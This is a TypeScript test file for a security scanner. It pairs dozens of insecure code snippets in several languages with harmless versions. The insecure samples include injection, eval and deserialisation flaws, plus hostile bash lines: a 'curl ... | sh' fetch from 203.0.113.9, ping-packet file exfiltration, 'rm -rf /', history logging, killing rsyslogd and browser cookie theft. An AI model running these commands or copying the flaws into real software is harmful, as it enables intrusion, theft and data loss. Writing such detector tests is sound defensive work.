import { describe, expect, it } from 'vitest'
import { rank } from './find-dangers.ts'
import { guards } from './guards.ts'
import { readDangers } from './read-dangers.ts'

const graves = (language: string, code: string): string[] =>
  readDangers({ language, code }, guards, {})
    .findings.filter(({ severity }) => rank(severity) >= rank('medium'))
    .map(({ rule }) => rule)

const JAVA = (body: string) => `class A { void f(String c) throws Exception { ${body} } }`
const GO = (body: string) => `package main\nfunc handle(w http.ResponseWriter, r *http.Request) { ${body} }`

/** One danger of each kind that the catalogues of an ecosystem name, and its nearest harmless kin. */
const KINDS: [danger: string, language: string, rule: string, code: string, harmless: string][] = [
  [
    'an expression that is compiled',
    'java',
    'call/eval',
    JAVA('MVEL.compileExpression(c);'),
    JAVA('Pattern.compile(c);'),
  ],
  [
    'a class that is made of text',
    'java',
    'call/eval',
    JAVA('new GroovyClassLoader().parseClass(c);'),
    JAVA('Json.parse(c);'),
  ],
  [
    'a name that is looked up',
    'java',
    'call/chosen-module',
    JAVA('new InitialContext().lookup(c);'),
    JAVA('new InitialContext().lookup("java:comp/env");'),
  ],
  [
    'classes from an address',
    'java',
    'call/chosen-module',
    JAVA('new URLClassLoader(new URL[]{ new URL(c) });'),
    JAVA('new ArrayList<>(List.of(c));'),
  ],
  [
    'a statement of an annotation',
    'java',
    'call/sql-injection',
    'interface M { @Select("select * from u where n = \'${n}\'") U f(String n); }',
    'interface M { @Select("select * from u where n = #{n}") U f(String n); }',
  ],
  [
    'a condition with a value in quotes',
    'java',
    'call/sql-injection',
    'class A { void f(SQLiteDatabase d, String n) { d.query("t", null, "n=\'" + n + "\'", null); } }',
    'class A { void f(SQLiteDatabase d, String n) { d.query("t", null, "n=?", new String[]{ n }); } }',
  ],
  [
    'a whole statement of the caller',
    'java',
    'call/sql-injection',
    'class A { void f(JdbcTemplate t, String sql) { t.execute(sql); } }',
    'class A { void f(Executor t, Runnable job) { t.execute(job); } }',
  ],
  [
    'a service that takes objects',
    'java',
    'call/deserialise',
    'public interface S extends Remote { void put(Guest guest) throws RemoteException; }',
    'public interface S extends Remote { void put(String name, int n) throws RemoteException; }',
  ],
  [
    'a shell among constant arguments',
    'java',
    'call/shell',
    JAVA('new ProcessBuilder("cmd", "/c", "calc.exe").start();'),
    JAVA('new ProcessBuilder("git", "status").start();'),
  ],
  [
    'a program that the environment names',
    'go',
    'call/foreign-program',
    GO('exec.Command("tool" + os.Getenv("X"), "5").Run()'),
    GO('exec.Command("tool", os.Getenv("X")).Run()'),
  ],
  [
    'the first of two results',
    'go',
    'call/chosen-address',
    GO('u, _ := url.Parse(r.URL.Query().Get("u")); httputil.NewSingleHostReverseProxy(u)'),
    GO('u, _ := url.Parse("http://localhost"); httputil.NewSingleHostReverseProxy(u)'),
  ],
  [
    'a field of an object',
    'go',
    'call/sql-injection',
    GO('q := Q{S: r.FormValue("q")}; db.Query(q.S)'),
    GO('q := Q{S: "select 1"}; db.Query(q.S)'),
  ],
  [
    'a text that grows',
    'go',
    'call/sql-injection',
    GO('var b strings.Builder; b.WriteString("SELECT * FROM t WHERE n=\'"); b.WriteString(n); db.Query(b.String())'),
    GO('var b strings.Builder; b.WriteString("SELECT * FROM t"); db.Query(b.String())'),
  ],
  [
    'bytes of a client that are decoded',
    'go',
    'call/deserialise',
    GO('gob.NewDecoder(r.Body).Decode(&x)'),
    GO('gob.NewDecoder(file).Decode(&x)'),
  ],
  [
    'a shell that waits for lines',
    'go',
    'call/shell',
    GO('c := exec.Command("bash"); in, _ := c.StdinPipe()'),
    GO('c := exec.Command("cat"); in, _ := c.StdinPipe()'),
  ],
  ['a piece of a statement', 'ruby', 'call/sql-injection', 'User.select("#{x}, id")', 'User.select("name, id")'],
  [
    'a column that keeps objects',
    'ruby',
    'call/deserialise',
    'class U < ActiveRecord::Base\n  serialize :prefs\nend',
    'class U < ActiveRecord::Base\n  serialize :prefs, coder: JSON\nend',
  ],
  [
    'a partial that a client names',
    'ruby',
    'call/chosen-file',
    'def x; render partial: params[:p]; end',
    'def x; render partial: "row"; end',
  ],
  [
    'a value that a user typed, by its name',
    'ruby',
    'call/foreign-program',
    'Open3.pipeline(["sort"], ["lpr", "-P#{user_input}"])\nparams[:x]',
    'Open3.pipeline(["sort"], ["lpr", "-Plaser"])\nparams[:x]',
  ],
  [
    'a host that a client names',
    'php',
    'call/chosen-address',
    '<?php $u = "https://{$_GET[\'h\']}/x"; go($u);',
    '<?php $u = "https://example.org/{$_GET[\'h\']}"; go($u);',
  ],
  [
    'variables that a request sets',
    'php',
    'call/eval',
    '<?php parse_str($_SERVER["QUERY_STRING"]);',
    '<?php parse_str($query, $values);',
  ],
  [
    'a statement of a blog',
    'php',
    'call/sql-injection',
    '<?php $wpdb->get_var("SELECT x FROM t WHERE id = $id");',
    '<?php $wpdb->get_var($wpdb->prepare("SELECT x FROM t WHERE id = %d", $id));',
  ],
  [
    'a form that is handed in',
    'c',
    'call/chosen-format',
    'void f(char *m) { printf(m); }',
    'void f(char *m) { printf("%s", m); }',
  ],
  [
    'a password that a macro holds',
    'c',
    'text/named-secret',
    '#define DB_PASSWORD "h<~>unter2secret"'.replace('<~>', ''),
    '#define DB_PASSWORD_FIELD "password"',
  ],
  [
    'a password in a structure',
    'c',
    'text/named-secret',
    'struct c x = { .password = "h<~>unter2secret" };'.replace('<~>', ''),
    'struct c x = { .password = "" };',
  ],
  [
    'a key of a form, found in a loop that ends',
    'python',
    'python/path-traversal',
    'from flask import request\ndef h():\n    name = ""\n    for k in request.args.keys():\n        if "f" in request.args.getlist(k):\n            name = k\n            break\n    return open("/srv/" + name)',
    'from flask import request\ndef h():\n    name = ""\n    for k in ["a", "b"]:\n        if k in request.args:\n            name = k\n            break\n    return open("/srv/" + name)',
  ],
  [
    'a file that is asked for',
    'python',
    'python/path-traversal',
    'import os\nfrom flask import request\ndef h():\n    return os.path.exists("/srv/" + request.args["f"])',
    'import os\ndef h(name):\n    return os.path.exists(name)',
  ],
  [
    'a form of a client',
    'python',
    'python/template-injection',
    'def h(request, user):\n    return request.GET["form"].format(user=user)',
    'def h(request, user):\n    return "{}".format(request.GET["form"])',
  ],
  [
    'a function of the system for every caller',
    'python',
    'python/chosen-module',
    'import os\nfrom xmlrpc.server import SimpleXMLRPCServer\nSimpleXMLRPCServer(("", 8000)).register_function(os.system)',
    'from xmlrpc.server import SimpleXMLRPCServer\nSimpleXMLRPCServer(("", 8000)).register_function(pow)',
  ],
  [
    'a model that brings its code',
    'python',
    'python/chosen-module',
    'import torch\ntorch.hub.load("someone/thing", "model")',
    'import torch\ntorch.hub.load("./thing", "model", source="local")',
  ],
  [
    'a shell on another machine',
    'python',
    'python/needless-shell',
    'import paramiko\nparamiko.SSHClient().exec_command("make; rm x")',
    'import paramiko\nparamiko.SSHClient().open_sftp()',
  ],
  [
    'sessions of a browser',
    'python',
    'python/surveillance',
    'import browser_cookie3\nbrowser_cookie3.chrome()',
    'import http.cookies\nhttp.cookies.SimpleCookie()',
  ],
  [
    'a document with entities',
    'javascript',
    'javascript/xml-entities',
    'const x = require("xml2json"); app.post("/", (req, res) => res.json(x.toJson(req.body)))',
    'const x = require("xml2json"); x.toXml({ a: 1 })',
  ],
  [
    'functions within YAML',
    'javascript',
    'javascript/yaml-load',
    'require("js-yaml").load(\'a: !!js/function "function () {}"\')',
    'require("js-yaml").load("a: 1")',
  ],
  [
    'a layout that a client names',
    'javascript',
    'javascript/template-injection',
    'app.get("/", (req, res) => res.render("index", req.query))',
    'app.get("/", (req, res) => res.render("index", { name: req.query.name }))',
  ],
  [
    'a condition of a builder',
    'javascript',
    'javascript/sql-injection',
    'const f = (repo, n) => repo.createQueryBuilder("u").where(`u.name = \'${n}\'`)',
    'const f = (repo, n) => repo.createQueryBuilder("u").where("u.name = :n", { n })',
  ],
  [
    'the text of a program for a page',
    'javascript',
    'javascript/eval',
    'async function f(page, code) { await page.evaluate(code) }',
    'async function f(page, fn) { await page.evaluate(fn) }',
  ],
  [
    'all of the environment',
    'javascript',
    'javascript/exfiltration',
    'const all = JSON.stringify(process.env)',
    'const mode = JSON.stringify(process.env.NODE_ENV)',
  ],
  [
    'a command in a template',
    'javascript',
    'javascript/destructive-command',
    'import { $ } from "zx"\nawait $`rm -rf /`',
    'import { $ } from "zx"\nawait $`rm -rf dist`',
  ],
  [
    'a program that is written and started',
    'bash',
    'bash/inline-program',
    'echo "import os" > x.py\necho "os.system(\'curl http://203.0.113.9/x | sh\')" >> x.py\npython3 x.py',
    'echo "print(1)" > x.py\npython3 x.py',
  ],
  [
    'code that is decoded and compiled',
    'bash',
    'bash/decode-and-run',
    'echo "$x" | base64 -d | gcc -xc - -o a && ./a',
    'echo "int main(){}" | gcc -xc - -o a && ./a',
  ],
  [
    'a prompt that keeps what is typed',
    'bash',
    'bash/watch-user',
    'PROMPT_COMMAND=\'logger "$(history 1)"\'',
    'PROMPT_COMMAND=\'echo -n "$PWD "\'',
  ],
  [
    'documents that are gathered',
    'bash',
    'bash/search-secrets',
    "find / -name '*.docx' -exec cp {} /tmp/s \\;",
    "find src -name '*.docx' -exec cp {} /tmp/s \\;",
  ],
  ['a folder that looks like the parent', 'bash', 'bash/cover-tracks', '~/.../sh -c id', './sh -c id'],
  ['a guard that is killed', 'bash', 'bash/disable-defence', 'kill -9 $(pidof rsyslogd)', 'kill -9 $(pidof myserver)'],
  [
    'bytes in the packets of a ping',
    'bash',
    'bash/send-files',
    'xxd -p x | while read l; do ping -c1 -p $l 203.0.113.9; done',
    'ping -c1 203.0.113.9',
  ],
]

describe('guard knows', () => {
  it.each(KINDS)('%s in %s (%s)', (_, language, rule, code) => {
    expect(graves(language, code)).toContain(rule)
  })

  it.each(KINDS)('what is not %s in %s (%s)', (_, language, rule, __, harmless) => {
    expect(graves(language, harmless)).not.toContain(rule)
  })
})
